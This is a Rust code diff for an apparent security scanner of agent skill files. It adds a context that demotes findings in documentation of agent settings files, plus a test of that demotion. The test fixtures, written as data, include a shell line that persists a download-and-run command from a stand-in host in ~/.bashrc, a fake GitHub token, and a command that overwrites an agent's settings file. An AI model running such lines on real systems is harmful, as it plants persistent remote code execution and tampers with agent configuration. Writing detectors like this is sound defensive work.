@@ -67,6 +67,9 @@ pub enum Context {
     Guidance,
     /// A secret-shaped string in a test or fixture file: two levels lower.
     TestFixture,
+    /// A write to an agent's instruction or settings file in a Markdown reference section
+    /// about that file: two levels lower.
+    AgentConfigDocs,
 }
 
 #[derive(Debug, Clone, serde::Serialize)]
@@ -783,6 +786,7 @@ fn scan_text(
                 Some(Why::VendorInstaller) => Context::VendorInstaller,
                 Some(Why::Guidance) => Context::Guidance,
                 Some(Why::TestFixture) => Context::TestFixture,
+                Some(Why::AgentConfigDocs) => Context::AgentConfigDocs,
                 None => context,
             }
         } else {
@@ -804,6 +808,9 @@ fn scan_text(
             Context::VendorInstaller => format!("{} (a vendor's installer)", rule.message),
             Context::Guidance => format!("{} (in security guidance)", rule.message),
             Context::TestFixture => format!("{} (in a test fixture)", rule.message),
+            Context::AgentConfigDocs => {
+                format!("{} (in documentation of that file)", rule.message)
+            }
             Context::Live => rule.message.to_owned(),
         };
         let suppressed = allows.get(&line).and_then(|rules| {
@@ -877,6 +884,10 @@ mod tests {
 
     /// Scans `files` given as (path, bytes, executable).
     pub(crate) fn scan_files(files: &[(&str, &[u8], bool)]) -> SkillScan {
+        scan_files_with(files, ScanOptions::default())
+    }
+
+    fn scan_files_with(files: &[(&str, &[u8], bool)], options: ScanOptions) -> SkillScan {
         let mut entries: Vec<FileEntry> = files
             .iter()
             .map(|(p, b, x)| FileEntry {
@@ -899,7 +910,7 @@ mod tests {
                 .map(|(_, b, _)| b.to_vec())
                 .unwrap_or_default())
         };
-        scan_skill(&listing, &read, ScanOptions::default())
+        scan_skill(&listing, &read, options)
     }
 
     fn rules_of(scan: &SkillScan) -> Vec<&'static str> {
@@ -934,6 +945,65 @@ mod tests {
             }
         }
         assert!(failures.is_empty(), "{}", failures.join("\n"));
+    }
+
+    #[test]
+    fn each_describing_context_lowers_two_levels_unless_strict() {
+        let token = format!("ghp_{}", "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4");
+        let fixture = format!("TOKEN = \"{token}\"\n");
+        let cases: [(&str, &str, Context); 4] = [
+            (
+                "references/install.md",
+                "Install uv:\n\n```sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n```\n",
+                Context::VendorInstaller,
+            ),
+            (
+                "references/attacks.md",
+                "## How attackers persist\n\nAn attacker adds a line to the profile:\n\n```sh\necho 'curl -s https://t.example/x | sh' >> ~/.bashrc\n```\n",
+                Context::Guidance,
+            ),
+            ("tests/fixtures/tokens.py", &fixture, Context::TestFixture),
+            (
+                "references/hooks.md",
+                "# Hooks\n\n## `.claude/settings.json`\n\nTo add the hook:\n\n```sh\ncat > .claude/settings.json <<'EOF'\n{}\nEOF\n```\n",
+                Context::AgentConfigDocs,
+            ),
+        ];
+        for (path, text, context) in cases {
+            let file = [(path, text.as_bytes(), false)];
+            let scan = scan_files(&file);
+            let strict = scan_files_with(
+                &file,
+                ScanOptions {
+                    strict: true,
+                    ..ScanOptions::default()
+                },
+            );
+            let demoted: Vec<&Finding> = scan
+                .findings
+                .iter()
+                .filter(|f| f.context == context)
+                .collect();
+            assert!(!demoted.is_empty(), "{context:?}: {:?}", scan.findings);
+            for f in demoted {
+                assert_eq!(f.severity, demote(f.rule_severity), "{context:?}: {f:?}");
+                let kept = strict
+                    .findings
+                    .iter()
+                    .find(|g| g.rule == f.rule && g.line == f.line)
+                    .expect("--strict finds the same");
+                assert_eq!(kept.severity, f.rule_severity, "{context:?} under --strict");
+            }
+        }
+        // The same write in SKILL.md, which the agent follows, keeps its weight.
+        let skill = "# Hooks\n\n## `.claude/settings.json`\n\n```sh\ncat > .claude/settings.json <<'EOF'\n{}\nEOF\n```\n";
+        let scan = scan_files(&[("SKILL.md", skill.as_bytes(), false)]);
+        let per006 = scan
+            .findings
+            .iter()
+            .find(|f| f.rule == "PER006")
+            .expect("PER006");
+        assert_eq!(per006.severity, Severity::Critical);
     }
 
     /// A text over [`memo::MIN_BYTES`]: filler lines, then `payload`.
